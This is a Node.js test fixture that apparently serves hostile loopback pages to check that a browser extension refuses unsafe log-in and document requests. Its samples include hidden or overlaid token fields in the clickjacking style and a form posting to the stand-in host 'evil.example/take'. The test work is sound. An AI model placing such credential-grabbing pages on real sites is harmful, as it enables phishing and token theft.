// A site on loopback whose pages ask for a log-in, or offer documents, in ways that must be refused.
import { createServer } from "node:http";
import { browserName } from "./browser.mjs";

const NONCE = `${"n".repeat(43)}=`;
const script = (field = "token", nonce = NONCE) =>
  `<script type="application/hitofude+json">${JSON.stringify({ nonce, field })}</script>`;
const box = '<label>ログイン用の文字列<textarea id="token" rows="3"></textarea></label>';
const page = (body, head = "") =>
  `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>見本</title>${head}</head><body><h1>見本</h1>${body}</body></html>`;

/** Path → page, and why the log-in window must refuse it. */
export const refused = {
  "/two": [page(script() + script() + box), "two-requests"],
  "/two-frames": [page(`${script()}${box}<iframe src="/good" width="400" height="200"></iframe>`), "two-requests"],
  "/hidden": [page(`${script()}<input type="hidden" id="token">`), "field-hidden"],
  "/none": [page(`${script()}<div style="display:none">${box}</div>`), "field-hidden"],
  "/clear": [page(`${script()}<div style="opacity:0.01">${box}</div>`), "field-hidden"],
  "/away": [page(`${script()}<div style="position:absolute;left:-9999px">${box}</div>`), "field-hidden"],
  "/covered": [
    page(
      `${script()}${box}<div style="position:fixed;inset:0;background:#fff;pointer-events:none">くじに当たりました</div>`,
    ),
    "field-hidden",
  ],
  "/twice": [page(`${script()}${box}${box}`), "field-two"],
  "/missing": [page(script()), "field-missing"],
  "/password": [page(`${script()}<input type="password" id="token">`), "field-kind"],
  "/short": [page(`${script()}<input id="token" maxlength="12">`), "field-short"],
  "/nonce": [page(script("token", "1234") + box), "nonce"],
  "/more": [
    page(
      `<script type="application/hitofude+json">{"nonce":"${NONCE}","field":"token","origin":"https://evil.example"}</script>${box}`,
    ),
    "script",
  ],
  "/elsewhere": [page(`${script()}<form action="https://evil.example/take">${box}</form>`), "form-elsewhere"],
};

const links = ["/doc.txt", "/jump", "/huge", "/empty", "/missing-document"]
  .map((path) => `<p><a data-hitofude-sign href="${path}">${path}</a></p>`)
  .join("");

/** @param {string} elsewhere origin of another site that a redirect leads to */
export async function startHostile(elsewhere) {
  const taken = [];
  const server = createServer((request, response) => {
    const { pathname } = new URL(request.url, "http://127.0.0.1");
    const html = (body, headers = {}) => {
      response.writeHead(200, { "content-type": "text/html; charset=utf-8", ...headers });
      response.end(body);
    };
    taken.push(`${request.method} ${pathname}`);
    if (refused[pathname]) return html(refused[pathname][0]);
    if (pathname === "/good") return html(page(script() + box));
    if (pathname === "/swap") {
      // After the person pressed the button, the script moves the box away.
      return html(page(`${script()}${box}<script>addEventListener("message", () => token.remove())</script>`));
    }
    if (pathname === "/links")
      return html(page(`${links}<a data-hitofude-sign href="${elsewhere}/doc.txt">よそ</a>`), {
        // Firefox holds what an extension loads for a page to the page's own policy; Chromium does not.
        "content-security-policy":
          browserName === "firefox" ? "default-src 'none'; connect-src 'self'" : "default-src 'none'",
      });
    if (pathname === "/doc.txt") return response.writeHead(200, { "content-type": "text/plain" }).end("見本の書類\n");
    if (pathname === "/jump") return response.writeHead(302, { location: `${elsewhere}/doc.txt` }).end();
    if (pathname === "/huge") return response.writeHead(200).end(Buffer.alloc(21 * 1024 * 1024));
    if (pathname === "/empty") return response.writeHead(200).end();
    response.writeHead(404).end();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    origin: `http://127.0.0.1:${server.address().port}`,
    taken,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(resolve);
      }),
  };
}
